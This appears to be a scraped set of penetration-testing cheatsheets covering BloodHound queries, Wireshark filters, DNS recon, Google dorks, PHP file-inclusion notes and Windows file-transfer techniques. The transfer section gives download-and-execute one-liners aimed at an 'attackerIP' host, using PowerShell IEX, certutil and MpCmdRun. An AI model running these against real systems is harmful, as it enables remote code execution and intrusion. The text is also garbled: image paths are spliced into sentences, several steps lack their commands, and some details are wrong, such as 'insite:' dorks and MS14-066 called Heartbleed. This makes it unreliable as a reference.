Enumeration Cheatsheets

Bloodhound Cheatsheet – Custom Queries, Neo4j, etc.

This document contains both Custom Queries that you can import/run directly in Bloodhound, as well as as custom queries that you can run from within the Neo4j GUI directly.

Importing Custom Queries to Bloodhound

CompassSecurity / BloodHoundQueries

There is an awesome project over at https://github.com/CompassSecurity/BloodHoundQueries. You can quickly install the custom queries by running the following commands in Linux.

cd /root/.config/bloodhound
curl -o "customqueries.json" "https://raw.githubusercontent.com/CompassSecurity/BloodHoundQueries/master/customqueries.json"Once downloaded, just restart Bloodhound and you’ll see the Custom Queries available.

Within Neo4j GUI

In the Neo4j console (by default http://localhost:7474/browser/), you can run your own queries to get data out of the Bloodhound database. I like to do this for ease of copy/paste when report writing.

Find all computers that have an unsupported Operating System.

MATCH (H:Computer) WHERE H.operatingsystem =~ '.(2000|2003|2008|xp|vista|7).' RETURN H.name, H.operatingsystem

Find all enabled users who are member of a particular group, such as Domain Admins.

MATCH (u:User)-[:MemberOf]->(g:Group {name:'DOMAIN ADMINS@<domain>'}) WHERE u.enabled = TRUE return u.name

Find all users that contain a keyword.

MATCH (u:User) WHERE u.name CONTAINS "<keyword>" return u.name, u.displayname, u.description, u.group
Enumeration Cheatsheets

Wireshark Filters Cheatsheet

There are literally hundreds of these type of posts on the internet, with one of my favorites being https://wiki.wireshark.org/CaptureFilters. However, I wanted to create this ‘short’ list that contains my favorite go-to’s after performing Man in the Middle attacks.This post will be updated as time goes on.

Understanding the Packet Capture

Before diving too deep, it’s always a good idea to get an idea of what type of traffic was captured so you know which filters to apply.

Viewing Protocol Statistics:
In the Menu, click on Statistics and select Protocol Hierarchy.

Filtering HTTP

If non-encrypted HTTP traffic was captured, we may be able to extract juicy details.

View all plaintext HTTP GET requests:
http.request.method == "GET"

View all plaintext HTTP POST requests:
http.request.method == "POST"

Filtering by specific redirect location:
http.location == login_success.php

To export HTTP objects (such as images or pages):
Select File. Click on Export Objects, and then HTTP.

Remember to always Right-Click a packet, and Follow the TCP Stream to get more details from the raw data.

Filtering FTP

FTP is pretty simple, since all traffic is sent in plaintext.

To view all FTP related traffic:

To export FTP objects (such as transferred files):
Select File. Click on Export Objects, and then TFTP.

Remember to always Right-Click a packet, and Follow the TCP Stream to get more details from the raw data.Filtering SMB

SMB is a favorite to capture, as it is usually not encrypted and you may be able to exfiltrate files over the wire.

To view packets related to SMB files:

To export SMB objects (such as transferred files):
Select File. Click on Export Objects, and then SMB.

Enumeration Cheatsheets

Active & Passive Recon Cheatsheet

This post contains various commands and methods for performing passive recon of a target. This article will be expanded upon as time goes on.

Performing Whois lookups

We can utilize public WHOIS databases to perform lookups on domains.

It may also be worthwhile utilizing other services, such as Namecheap. Once you know who the registrar is, it is typically best to perform a Whois lookup for your target using their domain registrar.

We can also utilize a Kali terminal for this:
whois <targetDomain>

You can use additional options to instruct the tool to use a different server.
whois -h whois.godaddy.com <targetDomain>

Performing DNS enumeration with NslookupTo perform a lookup of the A records against a particular domain:
nslookup <targetDomain>

To look up the mail records:
nslookup -query=mx <targetDomain>

To look up Nameservers:
nslookup -query=ns <targetDomain>

To get all records that are available:
nslookup -query=any<targetDomain>

You can also drop into nslookup with no parameters interactively.

While interactively working with nslookup, you can set your query:
set q=mx

You can also set your server if you wanted to query a different DNS server than your default one:

Performing DNS enumeration with Dig

To extract A records and Namerservers of a domain:
dig <targetDomain>

To query just A records:dig <targetDomain> A

You can also limit the output to a specific record, and just return the answer section:
dig +nocmd <targetDomain> MX +noall +answer

Can attempt a DNS Zone transfer:
dig +nocmd <targetDomain> AXFR +noall +answer @<targetDNSServer>

To see more about a DNS Zone Transfer, see https://infinitelogins.com/2020/04/23/performing-dns-zone-transfer/

Automating DNS Enumeration

Fierce can be used to enumerate subdomains, IP ranges, and hostnames by using public DNS queries, zone transfer attempts, and brute forcing techniques.
fierce -dns <targetDomain>

You can also specify a specific DNS server for the tool to use.
fierce -dns <targetDomain> -dnsserver <targetNamserver>

We can also leverage a tool called DNSEnum to do something similar. It will look for the A records of the target domain, looks up the NS and MX records. Finally, it will attempt a zone transfer attack.
dnsenum <targetDomain>

You can also specify a specific DNS server for the tool to use. Sometimes the results will differ.
dnsenum<targetDomain> --dnsserver <targetNamserver>

You can use DNSEnum to brute force subdomains as well.
dnsenum <targetDomain> -f <dictionaryList>

DNSMap can also be used, but it doesn’t do much other than brute-force with a built-in wordlist.
dnsmap <targetDomain> -w wordlist.txt -r /tmp/results.txt

DNSMap to enumerate subdomains in bulk fashion:
dnsmap-bulk.sh domains.txt /tmp/results.txt

DNSRecon is an ‘all-in-one’ tool that can do most everything.
dnsrecon -d <targetDomain>

Google and Bing Dorking

Bing offers a query filter that returns websites hosted on a given IP address by entering the following Bing search:

Search Google for results within a particular website:

Search Google for specificfiletypes:
insite:<targetURL> filetype:pdf

Search Google for particular text in title:
insite:<targetURL> intitle:admin
insite:<targetURL> intitle:index of

Search Google for particular text in body:
insite:<targetURL> intext:admin
insite:<targetURL> intext:index of

Additional payloads are found here. https://gist.github.com/clarketm/919457847cece7ce40323dc217623054

Various Tools:

Tips & Tricks

Exploiting PHP Based LFI

Different PHP Methods

There are two different methods that will create an LFI if not used correctly. Those two are:

file_get_contents() – This is going to just display the text within the file by reading the contents as a string, and will not interpret PHP code for execution. If the LFI is using this method, you can only enumerate files on the filesystem.

include() – This is going to execute everything within the PHP tag as actual PHP code. If the LFI is using this method, then we SHOULD be able to get command execution.

You can tell which method is being used by using the LFI to read the PHP file that causes the LFI.

  • If the source code IS displayed, then the PHP code was interpreted by the server and you have a file_get_content() LFI.
  • If the code is NOT displayed, then you have an include().

Example: Say your request looks like this:

GET /news.php?file=../news.php

Because the source code is visible in the response, we can assume we’re working witha file_get_content() LFI with no possibility of code execution.

Files to check while enumerating LFI:


To get the username of who we’re running as:

To see what binary is running this service:

If you have Tomcat running as well, you may want to enumerate these:


Note: Make sure to adjust the version number located in the path.

Tips & Tricks

Windows File Transfer Cheatsheet

Wanted to provide a single place to go for all file upload/download techniques when attacking a Windows machine from Kali Linux. This will be updated as I come across new ones and/or the next time I need to use them.

Uploading and Hosting Files

Python Web ServerThe following will start a webserver in the present working directory using Python2.
python -m SimpleHTTP Server 80

The following will start a webserver in the present working directory using Python3.
python3 -m http.server 80

Impacket SMB Server

You can download Impacket from Github.

We’ll need to perform a few steps to set this up, but it’s a great way to transfer files to/from a system. To begin, let’s create a directory called smb on our attacking system. Files in this directory will beavailable on the other end, and likewise, the other end will be able to place files into this directory.
mkdir smb
impacket-smbserver <sharename> `<path>`

Then we can mount this file share in PowerShell from the other side.
New-PSDrive -Name "<ShareName>" -PSProvider "FileSystem" -Root "\\<attackerIP>\<ShareName>

And change into the new drive.
cd <ShareName>:

Additional Method With Authentication:

On our Kali machine, we’ll start our Impacket server while in the directory we wish to host.
sudo impacket-smbserver <shareName> $(pwd) -smb2support -user <user> -p <password>

Then on the Windows machine, we’ll connect back to this SMB share, but we’ll need to specify the credentials mentioned in the above command. To do that, we’ll use the following commands:

$pass = ConvertTo-SecureString '<password>' -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential('<user>', $pass)
New-PSDrive -Name "<ShareName>" -PSProvider "FileSystem" -Root "\\<attackerIP>\<ShareName> -Credential $cred

Downloading Files


The following will download and store a remote file to disk.
Invoke-WebRequest -Uri "http://attackerIP/file.exe" -OutFile "C:\path\to\file.exe"

The following will download and automatically execute the remote PowerShell script when ran from a command prompt.
powershell.exe "IEX (New-Object Net.WebClient).DownloadString('http://attackerIP/file.ps1')

An alternative to the above is to use Invoke-WebRequest in a different manner.
powershell.exe "IEX (IWR http://attackerIP/file.ps1 -UseBasicParsing)"


The following will download and store a remote file to disk.certutil.exe -urlcache -f "http://attackerIP/file.exe" file.exe

Windows Defender

The following will download and store a remote file to disk.
MpCmdRun.exe -DownloadFile -url [url] -path [path_to_save_file]

Transferring with SSH

To copy a file from B to A while logged into B:
scp /path/to/file username@a:/path/to/destination

To copy a file from B to A while logged into A:
scp username@b:/path/to/file /path/to/destination

Transferring via Base64 Encoding

From within a PowerShell session, you may want toencode the file into Base64 format so you can just copy it down to your destination machine and decode it on the other side. This is handy for transferring small files.

Within PowerShell, you can encode a file by running:

$file-contents = Get-Content "filename.txt"
$file-encode = [System.Text.Encoding]::UTF8.GetBytes($file-contents)

Then, within Kali, you can decode it using the following:
echo -n <base64String> | base64 -d > filename.txt

This should create the file for you to interact with.

Pentesting, Tips & Tricks

Hacking Methodology Cheatsheet

This post is going to contain a list of common tools, vulnerabilities, & methodology tactics broken down by category and contains links to references that will showcase examples. Thisdocument will be updated often as I work through more and more resources.

Enumerating Common Services

Enumerating SMB 139,445

  • Using smbmap and smbclient to crawl and browse shares. Example of this in HTB FriendZone – Link to Ippsec video.

Enumerating LDAP 389

External Tools/Methodology

Using Hydra to Brute-Force Websites

Using ASP/ASPX Webshells

Enumerating Tomcat

Enumerating HTTP Proxies

Connecting to/Abusing IRC

Performing Zone Transfers

Local/Remote File Inclusion (LFI & RFI)

  • Using PHP Wrappers within LFI to Obtain PHP Script Source Code — My post
  • XML Entity Injection (XXE) Vuln for LFI. HackTheBox: DevOops. – Link to IppsecVideo

Privilege Escalation Techniques/Tools

Privilege Escalation: UsingSherlock

Privilege Escalation: Using Windows-Exploit-Suggester

Pivoting & Utilizing Proxies

Routing Tools ThroughProxies

Common Vulnerabilities

Exploiting MS17-010 (EternalBlue)

  • HackTheBox: Blue

Exploiting MS14-066 (Heartbleed)

Exploiting CVE-2016-5195 (DirtyCow)

Common Active Directory Attacks

Abusing LLMNR/NBT-NS w/Responder

Abusing IPv6Utilizing CrackMapExec